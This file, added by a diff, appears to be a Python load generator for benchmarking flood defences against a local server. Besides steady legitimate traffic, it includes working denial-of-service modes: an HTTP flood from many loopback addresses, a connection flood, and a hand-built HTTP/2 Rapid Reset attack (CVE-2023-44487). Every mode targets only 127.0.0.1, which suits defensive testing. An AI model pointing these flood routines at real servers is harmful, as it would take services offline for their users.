@@ -1,0 +1,282 @@
+#!/usr/bin/env python3
+"""Load for bench/flood (Python 3 standard library only).
+
+Subcommands (each prints one JSON object on stdout):
+  legit PORT HOST CLIENTS RATE SECONDS     CLIENTS keep-alive clients on 127.1.0.x, RATE
+                                           requests/s in total, steady; statuses + latencies
+  http-flood PORT HOST ADDRS PER_ADDR CONC SECONDS
+                                           ADDRS source addresses on 127.2.x.y, PER_ADDR
+                                           back-to-back keep-alive requests each, CONC at once
+  conn-flood PORT HOST CONC SECONDS        one address (127.4.0.1) opening connections as fast
+                                           as it can: connect, one request, close
+  rapid-reset PORT HOST CONNS SECONDS      HTTP/2 over TLS: bursts of HEADERS + RST_STREAM
+                                           pairs (CVE-2023-44487), reconnecting when closed
+  merge-scenario ...                       (used by the script) combine parts into one row
+"""
+
+import asyncio
+import json
+import random
+import socket
+import ssl
+import statistics
+import sys
+import time
+
+
+def pct(vals, p):
+    if not vals:
+        return None
+    vals = sorted(vals)
+    k = min(len(vals) - 1, max(0, int(round(p / 100.0 * len(vals) + 0.5)) - 1))
+    return vals[k]
+
+
+async def open_from(src, port):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setblocking(False)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    sock.bind((src, 0))
+    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
+    return await asyncio.open_connection(sock=sock)
+
+
+async def read_response(reader):
+    """Reads one HTTP/1.1 response (Content-Length or chunked); returns (status, keep_alive)."""
+    head = await reader.readuntil(b"\r\n\r\n")
+    lines = head.decode("latin-1").split("\r\n")
+    status = int(lines[0].split(" ")[1])
+    headers = {}
+    for l in lines[1:]:
+        if ":" in l:
+            k, v = l.split(":", 1)
+            headers[k.strip().lower()] = v.strip()
+    if "content-length" in headers:
+        await reader.readexactly(int(headers["content-length"]))
+    elif headers.get("transfer-encoding", "").lower() == "chunked":
+        while True:
+            size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
+            await reader.readexactly(size + 2)
+            if size == 0:
+                break
+    return status, headers.get("connection", "").lower() != "close"
+
+
+# ------------------------------------------------------------------------------------ legit
+
+async def legit(port, host, clients, rate, seconds):
+    req = f"GET /legit HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
+    lat, statuses, errors = [], {}, 0
+    interval = clients / rate          # each client's period
+    t_end = time.monotonic() + seconds
+
+    async def client(i):
+        nonlocal errors
+        src = f"127.1.{i // 250}.{i % 250 + 1}"
+        conn = None
+        nxt = time.monotonic() + random.random() * interval
+        while True:
+            now = time.monotonic()
+            if nxt > t_end:
+                break
+            if nxt > now:
+                await asyncio.sleep(nxt - now)
+            nxt += interval
+            t0 = time.monotonic()
+            try:
+                if conn is None:
+                    conn = await asyncio.wait_for(open_from(src, port), 10)
+                r, w = conn
+                w.write(req)
+                st, ka = await asyncio.wait_for(read_response(r), 10)
+                lat.append((time.monotonic() - t0) * 1000)
+                statuses[st] = statuses.get(st, 0) + 1
+                if not ka:
+                    w.close()
+                    conn = None
+            except Exception:
+                errors += 1
+                if conn:
+                    conn[1].close()
+                conn = None
+        if conn:
+            conn[1].close()
+
+    await asyncio.gather(*(client(i) for i in range(clients)))
+    total = sum(statuses.values()) + errors
+    return {"requests": total, "ok": statuses.get(200, 0), "errors": errors,
+            "statuses": {str(k): v for k, v in sorted(statuses.items())},
+            "success": statuses.get(200, 0) / total if total else None,
+            "p50_ms": pct(lat, 50), "p99_ms": pct(lat, 99), "max_ms": max(lat) if lat else None}
+
+
+# ------------------------------------------------------------------------------- http flood
+
+async def http_flood(port, host, addrs, per_addr, conc, seconds):
+    req = f"GET /flood HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
+    statuses, errors, used = {}, 0, 0
+    t_end = time.monotonic() + seconds
+    next_addr = 0
+    lock = asyncio.Lock()
+
+    async def worker():
+        nonlocal errors, used, next_addr
+        while time.monotonic() < t_end:
+            async with lock:
+                i = next_addr % addrs
+                next_addr += 1
+            src = f"127.2.{i // 250}.{i % 250 + 1}"
+            used += 1
+            try:
+                r, w = await asyncio.wait_for(open_from(src, port), 5)
+            except Exception:
+                errors += 1
+                continue
+            try:
+                for _ in range(per_addr):
+                    w.write(req)
+                    st, ka = await asyncio.wait_for(read_response(r), 5)
+                    statuses[st] = statuses.get(st, 0) + 1
+                    if not ka or time.monotonic() >= t_end:
+                        break
+            except Exception:
+                errors += 1
+            w.close()
+
+    t0 = time.monotonic()
+    await asyncio.gather(*(worker() for _ in range(conc)))
+    el = time.monotonic() - t0
+    n = sum(statuses.values())
+    return {"attack_requests": n, "attack_rps": n / el, "attack_errors": errors,
+            "attack_statuses": {str(k): v for k, v in sorted(statuses.items())},
+            "addresses_used": min(used, addrs), "address_visits": used}
+
+
+# ------------------------------------------------------------------------------- conn flood
+
+async def conn_flood(port, host, conc, seconds):
+    req = f"GET /conn HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
+    statuses, refused, errors, opened = {}, 0, 0, 0
+    t_end = time.monotonic() + seconds
+
+    async def worker():
+        nonlocal refused, errors, opened
+        while time.monotonic() < t_end:
+            try:
+                r, w = await asyncio.wait_for(open_from("127.4.0.1", port), 5)
+                opened += 1
+            except Exception:
+                errors += 1
+                continue
+            try:
+                w.write(req)
+                st, _ = await asyncio.wait_for(read_response(r), 5)
+                statuses[st] = statuses.get(st, 0) + 1
+            except (asyncio.IncompleteReadError, ConnectionError):
+                refused += 1          # closed without an answer: refused at accept
+            except Exception:
+                errors += 1
+            w.close()
+
+    t0 = time.monotonic()
+    await asyncio.gather(*(worker() for _ in range(conc)))
+    el = time.monotonic() - t0
+    return {"attack_connections": opened, "attack_cps": opened / el,
+            "attack_closed_unanswered": refused, "attack_errors": errors,
+            "attack_statuses": {str(k): v for k, v in sorted(statuses.items())}}
+
+
+# ------------------------------------------------------------------------------ rapid reset
+
+def frame(kind, flags, stream, payload=b""):
+    n = len(payload)
+    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+async def rapid_reset(port, host, conns, seconds):
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols(["h2"])
+    block = bytes([0x82, 0x87, 0x84, 0x01, len(host)]) + host.encode()
+    t_end = time.monotonic() + seconds
+    sent, goaways, connections, errors = 0, {}, 0, 0
+
+    async def worker():
+        nonlocal sent, connections, errors
+        while time.monotonic() < t_end:
+            try:
+                r, w = await asyncio.wait_for(asyncio.open_connection(
+                    "127.0.0.1", port, ssl=ctx, server_hostname=host), 5)
+                connections += 1
+            except Exception:
+                errors += 1
+                await asyncio.sleep(0.01)
+                continue
+            w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+
+            async def drain():
+                buf = b""
+                while True:
+                    try:
+                        d = await r.read(65536)
+                    except Exception:
+                        return
+                    if not d:
+                        return
+                    buf += d
+                    while len(buf) >= 9:
+                        n = int.from_bytes(buf[:3], "big")
+                        if len(buf) < 9 + n:
+                            break
+                        if buf[3] == 7 and n >= 8:
+                            code = int.from_bytes(buf[13:17], "big")
+                            goaways[code] = goaways.get(code, 0) + 1
+                        buf = buf[9 + n:]
+            reader = asyncio.ensure_future(drain())
+            sid = 1
+            try:
+                while (time.monotonic() < t_end and not reader.done() and not w.is_closing()
+                       and sid < 2**31 - 2000):
+                    burst = bytearray()
+                    for _ in range(100):
+                        burst += frame(1, 0x5, sid, block) + frame(3, 0, sid, (8).to_bytes(4, "big"))
+                        sid += 2
+                    w.write(bytes(burst))
+                    await w.drain()
+                    sent += 100
+                    await asyncio.sleep(0)   # let the reader see a GOAWAY
+            except Exception:
+                pass
+            try:
+                await asyncio.wait_for(reader, 2)   # the GOAWAY, if any, then the close
+            except Exception:
+                pass
+            w.close()
+
+    await asyncio.gather(*(worker() for _ in range(conns)))
+    return {"attack_streams": sent, "attack_connections": connections, "attack_errors": errors,
+            "goaway_codes": {str(k): v for k, v in goaways.items()}}
+
+
+def main():
+    cmd, args = sys.argv[1], sys.argv[2:]
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    if cmd == "legit":
+        out = asyncio.run(legit(int(args[0]), args[1], int(args[2]), float(args[3]), float(args[4])))
+    elif cmd == "http-flood":
+        out = asyncio.run(http_flood(int(args[0]), args[1], int(args[2]), int(args[3]),
+                                     int(args[4]), float(args[5])))
+    elif cmd == "conn-flood":
+        out = asyncio.run(conn_flood(int(args[0]), args[1], int(args[2]), float(args[3])))
+    elif cmd == "rapid-reset":
+        out = asyncio.run(rapid_reset(int(args[0]), args[1], int(args[2]), float(args[3])))
+    else:
+        sys.exit(__doc__)
+    print(json.dumps(out))
+
+
+if __name__ == "__main__":
+    main()
